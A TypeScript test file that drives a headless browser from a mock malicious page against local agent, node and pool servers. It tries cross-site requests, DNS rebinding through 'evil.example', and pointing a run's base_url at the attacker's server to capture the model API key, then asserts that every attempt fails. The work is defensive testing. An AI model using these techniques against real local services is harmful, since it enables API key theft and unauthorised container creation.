/**
 * A page of another site in a real browser on this machine, against real agent, node and pool servers, with tokens and
 * without: it makes nothing, learns nothing, and no key leaves.
 */
import type { ChildProcess } from 'node:child_process';
import { appendFileSync, existsSync, readFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import puppeteer, { type Browser } from 'puppeteer-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { endAgentServer, readStart } from '../rig/agent-server.ts';
import { type ModelServer, startModelServer } from '../rig/model-server.ts';
import type { Project } from '../rig/project.ts';
import { fenced, SUBMIT } from '../rig/solver.ts';
import { tinyProject } from '../rig/tiny-project.ts';
import { ask, IMAGE, makeImage } from './rig.ts';

const SCRIPT = readFileSync(new URL('other-site.js', import.meta.url));
const CHROMIUM = '/usr/bin/chromium';
const KEY = 'sk-of-the-project-4711';
const isThere = existsSync(CHROMIUM);
if (!isThere) console.warn(`skipped: there is no ${CHROMIUM} (apt-get install chromium)`);

interface Served {
  child: ChildProcess;
  url: string;
}
interface Attacked {
  agent: Served;
  node: Served;
  pool: Served;
}

let project: Project;
let model: ModelServer;
let browser: Browser;
let evil: Server;
/** What came to the other site but for its own page. */
const collected: string[] = [];
const OWN = ['/', '/other-site.js', '/favicon.ico'];

beforeAll(async () => {
  if (!isThere) return;
  model = await startModelServer([fenced(SUBMIT)]);
  project = tinyProject({ instances: 1, env: { PATH: '/usr/local/bin:/usr/bin:/bin', MODEL_KEY: KEY } });
  const values = `base_url: "${model.url}", name: m, identity: "m@1", retry: 1s, api_key: "\${secret:MODEL_KEY}"`;
  appendFileSync(project.path('p.yaml'), `agent:\n  limits: { steps: 2 }\n  model: { ${values} }\n`);
  makeImage(project.folder);
  // The page, and where it wants keys to be sent.
  evil = createServer((request, response) => {
    let body = '';
    request.on('data', (part) => {
      body += part;
    });
    request.on('end', () => {
      const { url = '', headers } = request;
      if (!OWN.includes(url)) collected.push(`${url} ${JSON.stringify(headers)} ${body}`);
      const isScript = url === '/other-site.js';
      const type = isScript ? 'text/javascript' : 'text/html';
      response.writeHead(200, { 'content-type': type, 'access-control-allow-origin': '*' });
      response.end(isScript ? SCRIPT : '<!doctype html><body><script src="/other-site.js"></script></body>');
    });
  });
  await new Promise<void>((resolve) => evil.listen(0, '127.0.0.1', resolve));
  browser = await puppeteer.launch({
    executablePath: CHROMIUM,
    args: [
      ...['--no-sandbox', '--disable-gpu', '--disable-dev-shm-usage'],
      '--host-resolver-rules=MAP evil.example 127.0.0.1',
    ],
  });
}, 300_000);

afterAll(async () => {
  await browser?.close();
  evil?.close();
  await model?.stop();
});

async function serve(what: string, ...words: string[]): Promise<Served> {
  const child = project.start(['serve', what, ...words, '--listen', '127.0.0.1:0']);
  return { child, url: (await readStart(child, what)).url };
}

/** What the page does to one server; it tells of everything that it could read. */
async function attack(url: string, path: string, body: object): Promise<string[]> {
  const page = await browser.newPage();
  const { port } = evil.address() as AddressInfo;
  await page.goto(`http://127.0.0.1:${port}/`);
  const read = (await page.evaluate(
    `attack(${[url, path, JSON.stringify(body)].map((one) => JSON.stringify(one)).join(', ')})`,
  )) as string[];
  // The same server under a name that leads to it.
  const rebound = await page.goto(`http://evil.example:${new URL(url).port}/status`);
  read.push(...(rebound?.status() === 421 ? [] : [`rebound: ${rebound?.status()}`]));
  await page.close();
  return read;
}

describe.skipIf(!isThere).each([
  { how: 'tokens that they made', more: [] },
  { how: 'no token', more: ['--no-token'] },
])('servers with $how', ({ more }) => {
  let attacked: Attacked;

  beforeAll(async () => {
    const name = more.length === 0 ? 'a' : 'b';
    const node = await serve(
      ...(['node', '--folder', `node-${name}`, '--image', `${IMAGE}=${project.path('layout')}`] as const),
      ...more,
    );
    const [pool, agent] = await Promise.all([
      serve('pool', '--folder', `pool-${name}`, '--node', node.url, ...more),
      serve('agent', 'p.yaml', '--folder', `episodes-${name}`, ...more),
    ]);
    attacked = { agent, node, pool };
  }, 300_000);

  afterAll(async () => {
    for (const { child } of Object.values(attacked ?? {}) as Served[])
      await endAgentServer({ process: child } as never, 'SIGTERM');
  });

  test('a page makes nothing, reads nothing, and gets no key', async () => {
    const { agent, node, pool } = attacked;
    const { port } = evil.address() as AddressInfo;
    const read = [
      await attack(node.url, '/container/create', { image: IMAGE }),
      await attack(pool.url, '/allocate', { image: IMAGE, instance_id: 'x' }),
      await attack(agent.url, '/run', { instance_id: 'tiny.0', base_url: `http://127.0.0.1:${port}/v1` }),
      await attack(agent.url, '/run', { instance_id: 'tiny.0' }),
    ];
    expect(read).toEqual([[], [], [], []]);
    const [nodeSays, poolSays, agentSays] = await Promise.all(
      [node, pool, agent].map(async ({ url }) => (await ask(url, '/status')).body),
    );
    expect(nodeSays).toMatchObject({ ok: true, active_containers: 0 });
    expect(poolSays).toMatchObject({ ok: true, pool: { total_leases: 0, waiting: 0 } });
    const { counts, places, running } = agentSays;
    expect({ ...counts, ...places, running }).toMatchObject({ graded: 0, faults: 0, taken: 0, running: [] });
    expect(collected).toEqual([]);
    expect(model.requests).toEqual([]);
    // The servers work for those who may ask.
    const made = await ask(node.url, '/container/create', { image: IMAGE });
    expect(made.status).toBe(200);
    await ask(node.url, '/container/destroy', { container_id: made.body.container_id });
  }, 300_000);
});
